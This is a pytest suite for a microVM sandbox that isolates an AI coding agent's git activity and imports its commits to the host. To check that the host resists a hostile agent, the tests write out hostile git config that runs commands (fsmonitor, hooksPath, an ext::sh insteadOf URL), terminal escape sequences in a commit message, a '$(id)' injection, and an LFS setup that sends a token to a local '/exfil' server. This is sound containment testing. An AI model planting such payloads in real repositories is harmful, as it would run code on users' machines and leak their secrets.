from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import threading
import time
from dataclasses import replace
from pathlib import Path

import pytest

from microvm_run import agentgit, git_cli, gitimport, gitmask, gitprepare, netpolicy
from microvm_run.agentgit import USER_OBJECTS, GitPlan, Meta
from microvm_run.ops import remove_tree
from microvm_run.plan import RunOptions, build_plan
from microvm_run.spec import Spec
from tests.support.deeptree import dig

from .conftest import make_facts

STATE = Path("/home/alice/.local/state")
HAVE_GIT = shutil.which("git") is not None
needs_git = pytest.mark.skipif(not HAVE_GIT, reason="git is not installed")
needs_lfs = pytest.mark.skipif(
    not HAVE_GIT or shutil.which("git-lfs") is None, reason="git-lfs is not installed"
)


# -- planning ---------------------------------------------------------------------------


def test_a_project_without_git_gets_no_git_plan(tmp_path: Path) -> None:
    assert agentgit.plan_git(tmp_path, STATE, worktree=None, instance_id="abcd1234") is None


def test_a_repository_gets_the_agents_git_dir_over_its_own(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    plan = agentgit.plan_git(tmp_path, STATE, worktree=None, instance_id="abcd1234")
    assert plan is not None and plan.mode == "shared"
    assert plan.share_root == tmp_path
    assert plan.run_dir.parent.parent == STATE / "microvm-run" / "git"
    assert plan.binds == (
        ("--bind", plan.agent_git, tmp_path / ".git"),
        ("--ro-bind", tmp_path / ".git" / "objects", tmp_path / ".git" / "user-objects"),
    )
    assert plan.branch == "agent/abcd1234"


def test_a_worktree_shares_the_runners_tree_not_the_project(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    plan = agentgit.plan_git(tmp_path, STATE, worktree="fix-login", instance_id="abcd1234")
    assert plan is not None and plan.mode == "worktree"
    assert plan.share_root == plan.run_dir / "tree"
    assert plan.run_dir.name == "fix-login"
    assert plan.binds[0] == ("--bind", plan.agent_git, plan.share_root / ".git")


def test_a_git_file_is_masked_read_only_with_itself(tmp_path: Path) -> None:
    (tmp_path / ".git").write_text("gitdir: /elsewhere/.git/worktrees/x\n")
    plan = agentgit.plan_git(tmp_path, STATE, worktree=None, instance_id="abcd1234")
    assert plan is not None and plan.mode == "gitfile"
    assert plan.binds == (("--ro-bind", tmp_path / ".git", tmp_path / ".git"),)
    with pytest.raises(ValueError, match="linked worktree or submodule"):
        agentgit.plan_git(tmp_path, STATE, worktree="x", instance_id="abcd1234")


def test_a_symlinked_git_is_refused(tmp_path: Path) -> None:
    (tmp_path / ".git").symlink_to("/etc")
    with pytest.raises(ValueError, match="neither a directory nor a file"):
        agentgit.plan_git(tmp_path, STATE, worktree=None, instance_id="abcd1234")


@pytest.mark.parametrize("name", ["", "-x", "a/b", "a..b", "x.lock", "x.", "a b", "é", "x" * 64])
def test_bad_worktree_names_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match="worktree name"):
        agentgit.check_name(name)


def test_worktree_without_git_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="needs a git repository"):
        agentgit.plan_git(tmp_path, STATE, worktree="x", instance_id="abcd1234")


def test_the_work_share_starts_behind_gitmask_without_id_maps(spec: Spec, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    git = agentgit.plan_git(tmp_path, STATE, worktree="w1", instance_id="deadbeef")
    facts = make_facts(work_dir=tmp_path, git=git, gitmask=Path("/r/gitmask.py"))
    plan = build_plan(spec, RunOptions(), facts)
    work = next(d for d in plan.virtiofsd if d.tag == "work")
    assert git is not None and work.shared_dir == git.share_root
    split = work.argv.index("--")
    assert work.argv[1:6] == ("-I", "-S", "/r/gitmask.py", "1000", "100")
    assert work.argv[split + 1] == str(spec.virtiofsd)
    # The namespace maps the user to 0 already; virtiofsd must not map again.
    assert not any(arg.startswith("--uid-map") for arg in work.argv)
    assert f"--shared-dir={git.share_root}" in work.argv
    home = next(d for d in plan.virtiofsd if d.tag == "home")
    assert "--uid-map=:0:1000:1:" in home.argv


# -- reading what the guest wrote --------------------------------------------------------

SHA = "a" * 40


def _agent_dir(tmp_path: Path) -> Path:
    agent = tmp_path / "git"
    (agent / "refs" / "heads").mkdir(parents=True)
    return agent


def test_head_through_a_loose_ref_and_packed_refs(tmp_path: Path) -> None:
    agent = _agent_dir(tmp_path)
    (agent / "HEAD").write_text("ref: refs/heads/main\n")
    (agent / "packed-refs").write_text(f"# pack-refs\n{SHA} refs/heads/main\n")
    assert gitimport.agent_head(agent) == SHA
    (agent / "refs" / "heads" / "main").write_text("b" * 40 + "\n")
    assert gitimport.agent_head(agent) == "b" * 40
    (agent / "HEAD").write_text("c" * 40 + "\n")
    assert gitimport.agent_head(agent) == "c" * 40


@pytest.mark.parametrize(
    "head", ["ref: refs/heads/../../../etc/passwd", "ref: /etc/passwd", "ref: refs/x", "zz"]
)
def test_head_that_leaves_refs_heads_is_ignored(tmp_path: Path, head: str) -> None:
    agent = _agent_dir(tmp_path)
    (agent / "HEAD").write_text(head + "\n")
    assert gitimport.agent_head(agent) is None


def test_symlinks_and_fifos_are_never_followed(tmp_path: Path) -> None:
    agent = _agent_dir(tmp_path)
    outside = tmp_path / "outside"
    outside.write_text(SHA + "\n")
    (agent / "HEAD").write_text("ref: refs/heads/main\n")
    (agent / "refs" / "heads" / "main").symlink_to(outside)
    assert gitimport.agent_head(agent) is None
    (agent / "refs" / "heads" / "main").unlink()
    os.mkfifo(agent / "refs" / "heads" / "main")
    assert gitimport.agent_head(agent) is None  # and did not block
    (agent / "HEAD").unlink()
    (agent / "HEAD").symlink_to(outside)
    assert gitimport.agent_head(agent) is None


def test_the_summary_line() -> None:
    assert gitimport.summary(gitimport.Imported("agent/fix-login", 3)) == (
        "3 commits on agent/fix-login; microvm-run review fix-login"
    )
    assert gitimport.summary(gitimport.Imported("agent/x", 1)).startswith("1 commit on")
    assert gitimport.summary(gitimport.Imported("agent/x", 0)) == "the agent made no commits"


def test_gitmask_refuses_bad_arguments() -> None:
    assert gitmask.main(["1", "1", "--bind", "a"]) == 2
    assert gitmask.main(["1", "1", "--mount", "a", "b", "--", "true"]) == 2


# -- the host side with real git, no VM ---------------------------------------------------


def _git(cwd: Path, *args: str, env: dict[str, str]) -> str:
    done = subprocess.run(
        ["git", *args], cwd=cwd, env=env, capture_output=True, text=True, check=True
    )
    return done.stdout.strip()


@pytest.fixture
def git_env(tmp_path: Path) -> dict[str, str]:
    home = tmp_path / "home"
    home.mkdir()
    return {
        "HOME": str(home),
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "GIT_CONFIG_NOSYSTEM": "1",
        "XDG_STATE_HOME": str(tmp_path / "state"),
    }


@pytest.fixture
def repo(tmp_path: Path, git_env: dict[str, str]) -> Path:
    project = tmp_path / "proj"
    project.mkdir()
    _git(project, "init", "-q", "-b", "main", env=git_env)
    _git(project, "config", "user.name", "Host User", env=git_env)
    _git(project, "config", "user.email", "host@example.org", env=git_env)
    (project / "a").write_text("a\n")
    _git(project, "add", "a", env=git_env)
    _git(project, "commit", "-q", "-m", "a", env=git_env)
    return project


def _prepared(repo: Path, env: dict[str, str], worktree: str | None = None) -> tuple[GitPlan, Meta]:
    plan = agentgit.plan_git(
        repo, Path(env["XDG_STATE_HOME"]), worktree=worktree, instance_id="cafe0001"
    )
    assert plan is not None
    meta = gitprepare.prepare(plan, env, "2026-11-29T00:00:00Z")
    assert meta is not None
    return plan, meta


@needs_git
def test_prepare_borrows_objects_and_passes_the_identity_by_value(
    repo: Path, git_env: dict[str, str]
) -> None:
    plan, meta = _prepared(repo, git_env)
    agent = plan.agent_git
    assert (agent / "objects" / "info" / "alternates").read_text() == "../user-objects\n"
    config = (agent / "config").read_text()
    assert "Host User" in config and "host@example.org" in config
    assert "checkStat = minimal" in config
    assert (agent / "index").read_bytes() == (repo / ".git" / "index").read_bytes()
    assert meta.branch == "main" and meta.start == _git(repo, "rev-parse", "HEAD", env=git_env)


@needs_git
def test_import_reads_no_guest_config_and_lands_under_agent(
    repo: Path, git_env: dict[str, str], tmp_path: Path
) -> None:
    plan, meta = _prepared(repo, git_env)
    agent = plan.agent_git
    # Stand in for the guest: the user's objects at user-objects, a commit.
    (agent / "user-objects").rmdir()
    (agent / "user-objects").symlink_to(repo / ".git" / "objects")
    work_env = {**git_env, "GIT_DIR": str(agent), "GIT_WORK_TREE": str(repo)}
    (repo / "b").write_text("b\n")
    _git(repo, "add", "b", env=work_env)
    _git(repo, "commit", "-q", "-m", "agent b", env=work_env)
    # Then the guest turns hostile: config, hooks, alternates to elsewhere.
    marker = tmp_path / "PWNED"
    with (agent / "config").open("a") as config:
        config.write(f"[core]\n\tfsmonitor = touch {marker}\n\thooksPath = {tmp_path}\n")
        config.write(f"[uploadpack]\n\tpackObjectsHook = touch {marker}\n")
    hook = tmp_path / "reference-transaction"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\n")
    hook.chmod(0o755)
    (agent / "user-objects").unlink()
    (agent / "user-objects").mkdir()
    imported = gitimport.import_commits(plan, meta, git_env)
    assert (imported.branch, imported.commits) == ("agent/cafe0001", 1)
    assert _git(repo, "log", "-1", "--format=%s|%an", "agent/cafe0001", env=git_env) == (
        "agent b|Host User"
    )
    assert not marker.exists()
    gitimport.finish_shared(plan, imported)
    assert not agent.exists() and (plan.run_dir / "meta.json").exists()


@needs_git
def test_an_agent_head_naming_a_missing_object_is_refused(
    repo: Path, git_env: dict[str, str]
) -> None:
    plan, meta = _prepared(repo, git_env)
    (plan.agent_git / "refs" / "heads" / "main").write_text("d" * 40 + "\n")
    with pytest.raises(agentgit.GitError, match="not a commit the host can read"):
        gitimport.import_commits(plan, meta, git_env)
    assert agentgit.rev(repo, "refs/heads/agent/cafe0001", git_env) is None


@needs_git
def test_review_and_land_refuse_outside_a_repository(
    tmp_path: Path, git_env: dict[str, str]
) -> None:
    assert git_cli.main(["review", "--work-dir", str(tmp_path)], git_env) == 2
    assert git_cli.main(["land"], git_env) == 2


@needs_git
def test_land_of_an_unknown_run_is_bad_input(repo: Path, git_env: dict[str, str]) -> None:
    assert git_cli.main(["land", "nope", "--work-dir", str(repo)], git_env) == 2


@needs_git
def test_checked_out_submodules_get_their_git_file_masked(
    repo: Path, git_env: dict[str, str], tmp_path: Path
) -> None:
    lib = tmp_path / "lib"
    lib.mkdir()
    _git(lib, "init", "-q", "-b", "main", env=git_env)
    _git(lib, "-c", "user.name=x", "-c", "user.email=x@y", "commit", "-q", "--allow-empty",
         "-m", "lib", env=git_env)  # fmt: skip
    _git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "sub",
         env=git_env)  # fmt: skip
    plan = agentgit.plan_git(repo, tmp_path / "state", worktree=None, instance_id="cafe0002")
    assert plan is not None
    masked = agentgit.with_submodules(plan, git_env)
    assert masked.binds[:2] == plan.binds
    sub = repo / "sub"
    assert masked.binds[2:] == (("--bind", sub, sub), ("--ro-bind", sub / ".git", sub / ".git"))


@needs_git
def test_unpopulated_submodules_and_their_parents_are_pinned(
    repo: Path, git_env: dict[str, str], tmp_path: Path
) -> None:
    commit = _git(repo, "rev-parse", "HEAD", env=git_env)
    for path in ("deep/er/one", "deep/two"):
        _git(repo, "update-index", "--add", "--cacheinfo", f"160000,{commit},{path}", env=git_env)
    (repo / "deep" / "two").mkdir(parents=True)
    plan = agentgit.plan_git(repo, tmp_path / "state", worktree=None, instance_id="cafe0004")
    assert plan is not None
    masked = agentgit.with_submodules(plan, git_env)
    deep = repo / "deep"
    assert masked.binds[2:] == (
        ("--bind", deep, deep),
        ("--bind", deep / "er", deep / "er"),
        ("--ro-bind", deep / "er" / "one", deep / "er" / "one"),
        ("--ro-bind", deep / "two", deep / "two"),
    )
    assert masked.make_dirs == (deep / "er" / "one",)
    agentgit.make_dirs(masked)
    assert (deep / "er" / "one").is_dir()
    # A symlink where a submodule directory should be is refused, not followed.
    (deep / "er" / "one").rmdir()
    (deep / "er" / "one").symlink_to(tmp_path)
    with pytest.raises(agentgit.GitError, match="is not a directory"):
        agentgit.make_dirs(masked)


@needs_git
def test_one_worktree_serves_one_run_at_a_time(repo: Path, git_env: dict[str, str]) -> None:
    plan = agentgit.plan_git(
        repo, Path(git_env["XDG_STATE_HOME"]), worktree="solo", instance_id="cafe0003"
    )
    first = git_cli.before_run(plan, git_env)
    assert first is not None
    with pytest.raises(agentgit.GitError, match="in use by another run"):
        git_cli.before_run(plan, git_env)
    assert git_cli.prune(git_env, explicit=["solo"]) == [
        "kept worktree run solo: in use by a running instance"
    ]
    git_cli.after_run(first, git_env)
    again = git_cli.before_run(plan, git_env)
    assert again is not None and again.meta == first.meta
    git_cli.after_run(again, git_env)
    assert git_cli.prune(git_env, explicit=["solo"])[0].startswith("removed worktree run solo")


@needs_git
def test_a_rebased_agent_branch_survives_a_run_without_new_commits(
    repo: Path, git_env: dict[str, str]
) -> None:
    plan, meta = _prepared(repo, git_env, worktree="keep")
    work_env = {**git_env, "GIT_DIR": str(plan.agent_git), "GIT_WORK_TREE": str(plan.share_root)}
    (plan.agent_git / "user-objects").rmdir()
    (plan.agent_git / "user-objects").symlink_to(repo / ".git" / "objects")
    (plan.share_root / "k").write_text("k\n")
    _git(plan.share_root, "add", "k", env=work_env)
    _git(plan.share_root, "commit", "-q", "-m", "k", env=work_env)
    imported = gitimport.import_commits(plan, meta, git_env)
    assert imported.commits == 1
    meta = replace(meta, imported=imported.head)
    # The user amends the agent's commit on the host; the agent does nothing.
    _git(repo, "update-ref", "refs/heads/agent/keep", _git(repo, "rev-parse", "main", env=git_env),
         env=git_env)  # fmt: skip
    assert gitimport.import_commits(plan, meta, git_env) == gitimport.Imported("agent/keep", 0)
    assert agentgit.rev(repo, "refs/heads/agent/keep", git_env) == meta.start


@needs_git
def test_a_reused_worktree_survives_a_deep_tree_the_guest_left_where_alternates_go(
    repo: Path, git_env: dict[str, str]
) -> None:
    """The guest made objects/info/alternates a directory 3,000 levels deep:
    the next launch on the worktree puts the runner's file back (a recursive
    delete would die on the depth, and the worktree could never start again)."""
    plan, _ = _prepared(repo, git_env, worktree="deep")
    alternates = plan.agent_git / "objects" / "info" / "alternates"
    alternates.unlink()
    alternates.mkdir()
    os.close(dig(alternates, 3000))
    try:
        gitprepare.prepare(plan, git_env, "2026-11-29T00:00:01Z")
        assert alternates.read_text() == "../user-objects\n"
    finally:
        # pytest's own clean-up of tmp_path is recursive: never leave it the depth.
        if alternates.is_dir():
            assert remove_tree(alternates) is None


@needs_git
def test_the_identity_is_written_so_git_reads_it_back_exactly(
    tmp_path: Path, git_env: dict[str, str]
) -> None:
    name = 'Zoë "Z" \\ O\'Brien\tx'
    config = tmp_path / "config"
    config.write_text(gitprepare.config_text("sha1", {"name": name, "email": "z@example.org"}))
    env = {**git_env, "GIT_CONFIG_GLOBAL": "/dev/null"}
    assert _git(tmp_path, "config", "--file", str(config), "user.name", env=env) == name
    assert _git(tmp_path, "config", "--file", str(config), "core.checkstat", env=env) == "minimal"


def test_object_copy_skips_symlinks_fifos_and_info(tmp_path: Path) -> None:
    agent = tmp_path / "git"
    loose = agent / "objects" / "ab"
    loose.mkdir(parents=True)
    (agent / "objects" / "info").mkdir()
    (agent / "objects" / "info" / "alternates").write_text("/etc\n")
    secret = tmp_path / "secret"
    secret.write_text("secret")
    (loose / ("c" * 38)).write_bytes(b"object")
    (loose / ("d" * 38)).symlink_to(secret)
    os.mkfifo(loose / ("e" * 38))
    (agent / "objects" / "pack").symlink_to(tmp_path)
    target = tmp_path / "target"
    target.mkdir()
    gitimport._copy_objects(agent, target)
    assert sorted(str(p.relative_to(target)) for p in target.rglob("*")) == ["ab", "ab/" + "c" * 38]


def test_too_many_objects_is_a_clear_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    loose = tmp_path / "git" / "objects" / "ab"
    loose.mkdir(parents=True)
    for name in ("c", "d"):
        (loose / (name * 38)).write_bytes(b"x")
    monkeypatch.setattr(gitimport, "MAX_IMPORT_FILES", 1)
    with pytest.raises(agentgit.GitError, match="exceed 1 files"):
        gitimport._copy_objects(tmp_path / "git", tmp_path)


@needs_git
def test_review_imports_what_a_killed_runner_left(
    repo: Path, git_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    plan, _ = _prepared(repo, git_env)
    agent = plan.agent_git
    (agent / "user-objects").rmdir()
    (agent / "user-objects").symlink_to(repo / ".git" / "objects")
    work_env = {**git_env, "GIT_DIR": str(agent), "GIT_WORK_TREE": str(repo)}
    (repo / "late").write_text("late\n")
    _git(repo, "add", "late", env=work_env)
    _git(repo, "commit", "-q", "-m", "late", env=work_env)
    (agent / "user-objects").unlink()
    (agent / "user-objects").mkdir()
    # No after_run: the runner was SIGKILLed.  review finds and imports it.
    assert git_cli.main(["review", "cafe", "--stat", "--work-dir", str(repo)], git_env) == 0
    out, err = capsys.readouterr()
    assert "imported: 1 commit on agent/cafe0001" in err
    assert "late" in out
    assert not agent.exists()


@needs_git
def test_a_fresh_project_without_commits_reviews_and_lands(
    tmp_path: Path, git_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "fresh"
    project.mkdir()
    _git(project, "init", "-q", "-b", "main", env=git_env)
    plan, meta = _prepared(project, git_env)
    assert (meta.branch, meta.start) == ("main", None)
    agent = plan.agent_git
    work_env = {
        **git_env, "GIT_DIR": str(agent), "GIT_WORK_TREE": str(project),
        "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
        "GIT_COMMITTER_EMAIL": "a@b",
    }  # fmt: skip
    (project / "first").write_text("first\n")
    _git(project, "add", "first", env=work_env)
    _git(project, "commit", "-q", "-m", "first", env=work_env)
    imported = gitimport.import_commits(plan, meta, git_env)
    assert (imported.branch, imported.commits) == (f"agent/{plan.name}", 1)
    agentgit.write_meta(plan.run_dir, replace(meta, imported=imported.head))
    gitimport.finish_shared(plan, imported)
    assert git_cli.main(["review", plan.name, "--work-dir", str(project)], git_env) == 0
    assert "first" in capsys.readouterr().out
    assert git_cli.main(["land", plan.name, "--work-dir", str(project)], git_env) == 0
    assert "landed 1 commit" in capsys.readouterr().out
    assert _git(project, "status", "--porcelain", env=git_env) == ""
    assert _git(project, "log", "--format=%s", env=git_env) == "first"


def test_a_subdirectory_of_a_repository_says_the_agent_has_no_git(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / ".git").mkdir()
    sub = tmp_path / "sub"
    sub.mkdir()
    assert agentgit.plan_git(sub, STATE, worktree=None, instance_id="abcd1234") is None
    env = {"XDG_STATE_HOME": str(tmp_path / "state")}
    assert git_cli.before_run(None, env, project=sub) is None
    assert f"inside the git repository {tmp_path}" in capsys.readouterr().err


@needs_git
def test_the_agent_ignores_what_you_ignore_outside_the_tree(
    repo: Path, git_env: dict[str, str]
) -> None:
    (repo / ".git" / "info").mkdir(exist_ok=True)
    (repo / ".git" / "info" / "exclude").write_text(".env\n")
    global_ignore = Path(git_env["HOME"]) / ".config" / "git" / "ignore"
    global_ignore.parent.mkdir(parents=True)
    global_ignore.write_text("*.secret\n")
    plan, _ = _prepared(repo, git_env)
    (repo / ".env").write_text("KEY=1\n")
    (repo / "x.secret").write_text("s\n")
    (repo / "new.txt").write_text("n\n")
    (plan.agent_git / "user-objects").rmdir()
    (plan.agent_git / "user-objects").symlink_to(repo / ".git" / "objects")
    # As the guest sees it: no global config, only the agent's git dir.
    guest = {
        "HOME": str(repo.parent / "nohome"), "PATH": git_env["PATH"], "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_DIR": str(plan.agent_git), "GIT_WORK_TREE": str(repo),
    }  # fmt: skip
    assert _git(repo, "status", "--porcelain", env=guest) == "?? new.txt"


def _agent_commits(plan: GitPlan, project: Path, env: dict[str, str], *steps: list[str]) -> None:
    """Stand in for the guest: git in the agent's git dir, the user's objects borrowed."""
    agent = plan.agent_git
    (agent / "user-objects").rmdir()
    (agent / "user-objects").symlink_to(project / ".git" / "objects")
    work_env = {**env, "GIT_DIR": str(agent), "GIT_WORK_TREE": str(project)}
    for step in steps:
        _git(project, *step, env=work_env)
    (agent / "user-objects").unlink()
    (agent / "user-objects").mkdir()


@needs_git
def test_a_git_dir_that_appears_after_an_unhidden_run_is_the_agents(
    tmp_path: Path, git_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "new"
    project.mkdir()
    state_home = Path(git_env["XDG_STATE_HOME"])
    assert git_cli.before_run(None, git_env, project=project) is None  # a run with no git
    # The agent makes a repository whose configuration runs code on any git.
    pwned = tmp_path / "PWNED"
    _git(project, "init", "-q", "-b", "main", env=git_env)
    with (project / ".git" / "config").open("a") as config:
        config.write(
            f"[core]\n\talternateRefsCommand = touch {pwned}\n\tfsmonitor = touch {pwned}\n"
        )
    (project / ".git" / "info").mkdir(exist_ok=True)
    (project / ".git" / "info" / "exclude").unlink(missing_ok=True)
    (project / ".git" / "info" / "exclude").symlink_to(tmp_path / "secret")
    assert agentgit.plan_git(project, state_home, worktree=None, instance_id="cafe0002") is None
    with pytest.raises(ValueError, match="may be the agent's"):
        agentgit.plan_git(project, state_home, worktree="w", instance_id="cafe0002")
    assert git_cli.before_run(None, git_env, project=project) is None
    assert "appeared after an agent could write the project" in capsys.readouterr().err
    assert not pwned.exists()
    # The user checked it and says it is theirs: planned again, marker gone.
    trusted = agentgit.plan_git(
        project, state_home, worktree=None, instance_id="cafe0002", trust_git=True
    )
    assert trusted is not None
    assert agentgit.exposed_marker(state_home, project).exists()


@needs_git
def test_excludes_are_read_only_from_regular_files_and_the_global_config(
    repo: Path, git_env: dict[str, str], tmp_path: Path
) -> None:
    secret = tmp_path / "id_ed25519"
    secret.write_text("PRIVATE KEY\n")
    exclude = repo / ".git" / "info" / "exclude"
    exclude.parent.mkdir(exist_ok=True)
    exclude.unlink(missing_ok=True)
    exclude.symlink_to(secret)
    # A repository's own core.excludesFile is not the user's global one.
    _git(repo, "config", "core.excludesFile", str(secret), env=git_env)
    plan, _ = _prepared(repo, git_env)
    assert "PRIVATE KEY" not in (plan.agent_git / "info" / "exclude").read_text()
    shutil.rmtree(plan.run_dir)
    exclude.unlink()
    os.mkfifo(exclude)  # must not hang the launch
    plan, _ = _prepared(repo, git_env)
    assert "PRIVATE KEY" not in (plan.agent_git / "info" / "exclude").read_text()


@needs_git
def test_land_refuses_a_nested_repository_the_agent_committed(
    repo: Path, git_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    plan, meta = _prepared(repo, git_env)
    head = _git(repo, "rev-parse", "HEAD", env=git_env)
    (repo / "sub").mkdir()
    _agent_commits(
        plan, repo, git_env,
        ["update-index", "--add", "--cacheinfo", f"160000,{head},sub"],
        ["commit", "-q", "-m", "add sub \x1b]52;c;cHduZWQ=\x07\x1b[2J"],
    )  # fmt: skip
    imported = gitimport.import_commits(plan, meta, git_env)
    agentgit.write_meta(plan.run_dir, replace(meta, imported=imported.head))
    gitimport.finish_shared(plan, imported)
    assert git_cli.main(["review", plan.name, "--stat", "--work-dir", str(repo)], git_env) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "add sub" in out
    assert "adds a nested repository (gitlink) at sub" in out
    assert git_cli.main(["land", plan.name, "--work-dir", str(repo)], git_env) != 0
    assert "land refuses it" in capsys.readouterr().err
    assert _git(repo, "rev-parse", "HEAD", env=git_env) == head


@needs_git
def test_a_git_dir_an_agent_made_below_its_project_is_not_trusted_either(
    tmp_path: Path, git_env: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    outer = tmp_path / "proj"
    outer.mkdir()
    state_home = Path(git_env["XDG_STATE_HOME"])
    assert git_cli.before_run(None, git_env, project=outer) is None  # an agent ran on proj
    sub = outer / "tools"
    sub.mkdir()
    _git(sub, "init", "-q", "-b", "main", env=git_env)  # the agent's repository
    assert agentgit.plan_git(sub, state_home, worktree=None, instance_id="cafe0003") is None
    assert git_cli.main(["review", "--work-dir", str(sub)], git_env) == 2
    assert "may be the agent's" in capsys.readouterr().err
    # --trust-git: this run plans it, and from then on it is the user's ...
    time.sleep(0.05)  # file times are coarse
    plan = agentgit.plan_git(sub, state_home, worktree=None, instance_id="cafe0003", trust_git=True)
    assert plan is not None
    session = git_cli.before_run(plan, git_env, project=sub, trust_git=True)
    assert session is not None
    os.close(session.lock_fd)
    assert not agentgit.git_untrusted(state_home, sub)
    # ... until an agent runs on the directory above it again.
    time.sleep(0.05)
    git_cli.before_run(None, git_env, project=outer)
    assert agentgit.git_untrusted(state_home, sub)


@needs_git
def test_a_guest_deep_tree_in_the_agents_git_dir_is_removed_without_recursion(
    repo: Path, git_env: dict[str, str]
) -> None:
    plan, meta = _prepared(repo, git_env)
    deep = plan.agent_git
    for _ in range(1200):  # deeper than Python's recursion limit
        deep = deep / "x"
        deep.mkdir()
    imported = gitimport.import_commits(plan, meta, git_env)
    gitimport.finish_shared(plan, imported)  # must not raise RecursionError
    assert not plan.run_dir.exists()


@needs_git
def test_a_vm_above_the_project_during_a_run_stops_the_import_and_gc_runs_no_git(
    repo: Path, git_env: dict[str, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plan = agentgit.plan_git(
        repo, Path(git_env["XDG_STATE_HOME"]), worktree=None, instance_id="cafe0004"
    )
    assert plan is not None
    session = git_cli.before_run(plan, git_env, project=repo)
    assert session is not None
    # Meanwhile a VM starts on the directory above: its agent could write
    # repo/.git, e.g. a url.insteadOf that turns the import's fetch into ext::.
    time.sleep(0.05)
    git_cli.before_run(None, git_env, project=repo.parent)
    pwned = tmp_path / "PWNED"
    _git(repo, "config", "protocol.ext.allow", "always", env=git_env)
    _git(repo, "config", f"url.ext::sh -c touch\\ {pwned}.insteadOf", "/", env=git_env)
    assert git_cli.after_run(session, git_env) is None
    assert "may be the agent's" in capsys.readouterr().err
    assert plan.agent_git.is_dir() and not pwned.exists()
    removed = git_cli.prune(git_env)
    assert any("may be the agent's" in line for line in removed)
    assert plan.run_dir.is_dir() and not pwned.exists()
    # A launch planned before that VM started gets no git either, unless
    # the user said --trust-git.
    assert git_cli.before_run(plan, git_env, project=repo) is None


def test_an_address_with_a_scope_id_is_never_offered_as_a_command() -> None:
    refusal = netpolicy.Refusal("fe80::1%$(id)", 443, "x", netpolicy.FIX_ALLOW, "allowlist", "a")
    assert "microvm-run allow" not in refusal.text()


def test_host_git_gets_no_api_keys_and_no_git_variables() -> None:
    env = agentgit.git_env(
        {"PATH": "/bin", "HOME": "/h", "ANTHROPIC_API_KEY": "k", "DASHSCOPE_API_KEY": "k",
         "GIT_DIR": "/elsewhere", "GIT_CONFIG_PARAMETERS": "'core.fsmonitor=x'"}
    )  # fmt: skip
    assert env["PATH"] == "/bin" and env["HOME"] == "/h"
    assert not any(k.endswith("_API_KEY") for k in env)
    assert "GIT_DIR" not in env and "GIT_CONFIG_PARAMETERS" not in env
    assert env["GIT_ALLOW_PROTOCOL"] == "file"


class _Recorder(http.server.BaseHTTPRequestHandler):
    """The agent's LFS server: records what reaches it."""

    seen: list[str]

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length") or 0)
        self.seen.append(f"{self.path} {self.rfile.read(length).decode(errors='replace')}")
        self.send_response(404)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@needs_lfs
def test_land_lets_no_committed_lfsconfig_send_a_request_from_the_host(
    repo: Path, git_env: dict[str, str]
) -> None:
    """git-lfs set up as `git lfs install` does; the agent commits an LFS
    pointer whose object id carries data, and a .lfsconfig naming its server."""
    seen: list[str] = []
    handler = type("Handler", (_Recorder,), {"seen": seen})
    server = http.server.HTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        for key, value in (
            ("filter.lfs.clean", "git-lfs clean -- %f"),
            ("filter.lfs.smudge", "git-lfs smudge -- %f"),
            ("filter.lfs.process", "git-lfs filter-process"),
            ("filter.lfs.required", "true"),
        ):
            _git(repo, "config", "--global", key, value, env=git_env)
        plan, meta = _prepared(repo, git_env, worktree="lfs")
        tree = plan.share_root
        secret = b"the user's token".hex().ljust(64, "0")
        pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{secret}\nsize 16\n"
        (tree / ".gitattributes").write_text("*.bin filter=lfs diff=lfs merge=lfs -text\n")
        url = f"http://127.0.0.1:{server.server_address[1]}/exfil"
        (tree / ".lfsconfig").write_text(f"[lfs]\n\turl = {url}\n")
        (tree / "data.bin").write_text(pointer)
        agent = plan.agent_git
        (agent / USER_OBJECTS).rmdir()
        (agent / USER_OBJECTS).symlink_to(repo / ".git" / "objects")
        guest = {**git_env, "GIT_DIR": str(agent), "GIT_WORK_TREE": str(tree)}
        no_lfs = ["-c", "filter.lfs.process=", "-c", "filter.lfs.clean="]
        _git(tree, *no_lfs, "-c", "filter.lfs.required=0", "add", "-A", env=guest)
        _git(tree, "commit", "-q", "-m", "add data", env=guest)
        (agent / USER_OBJECTS).unlink()
        (agent / USER_OBJECTS).mkdir()
        imported = gitimport.import_commits(plan, meta, git_env)
        agentgit.write_meta(plan.run_dir, replace(meta, imported=imported.head))
        landed = git_cli.main(["land", plan.name, "--work-dir", str(repo)], git_env)
        assert seen == []  # before: a POST to /exfil/objects/batch naming the "secret"
        assert landed == 0
        assert (repo / "data.bin").read_text() == pointer  # a pointer, as committed
        assert _git(repo, "status", "--porcelain", env=git_env) == ""
    finally:
        server.shutdown()
        server.server_close()
